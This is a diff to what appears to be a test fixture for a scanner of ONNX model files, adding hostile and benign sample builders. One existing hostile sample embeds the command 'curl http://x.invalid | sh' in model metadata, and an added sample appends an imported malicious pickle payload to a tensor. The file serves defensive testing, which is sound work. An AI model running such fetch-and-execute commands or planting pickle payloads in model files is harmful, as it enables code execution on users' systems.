@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Callable, Mapping
 
+from tests.artifacts.builders.payloads import EVIL_PICKLE_2
 from tests.artifacts.builders.protobufs import message, number, text
 
 
@@ -92,6 +93,11 @@ HOSTILE: Mapping[str, Callable[[], bytes]] = {
     "onnx/metadata-command": lambda: model(
         graph(node("Relu")), message(14, text(1, "hook"), text(2, "curl http://x.invalid | sh"))
     ),
+    "onnx/python-function-of-the-extensions": lambda: model(
+        graph(node("Reverse", domain="ai.onnx.contrib"))
+    ),
+    "onnx/tensor-outside": lambda: OUTSIDE,
+    "onnx/tensor-with-a-tail": lambda: tensor() + EVIL_PICKLE_2,
     "onnx/group-hides-graph": lambda: model(graph(node("Relu"))) + b"\x3b" + message(7, b"x"),
 }
 BENIGN: Mapping[str, Callable[[], bytes]] = {
@@ -103,6 +109,8 @@ BENIGN: Mapping[str, Callable[[], bytes]] = {
     "onnx/local-function": lambda: model(
         graph(node("Swish2", domain="pkg.torch")), function("pkg.torch", "Swish2", node("Mul"))
     ),
+    "onnx/extension": lambda: model(graph(node("GPT2Tokenizer", domain="ai.onnx.contrib"))),
+    "onnx/tensor": tensor,
     "onnx/classical": lambda: model(graph(node("TreeEnsembleClassifier", domain="ai.onnx.ml"))),
     "onnx/large-tensor": lambda: model(graph(node("Relu"), tensors=(tensor(data=bytes(300_000)),))),
 }
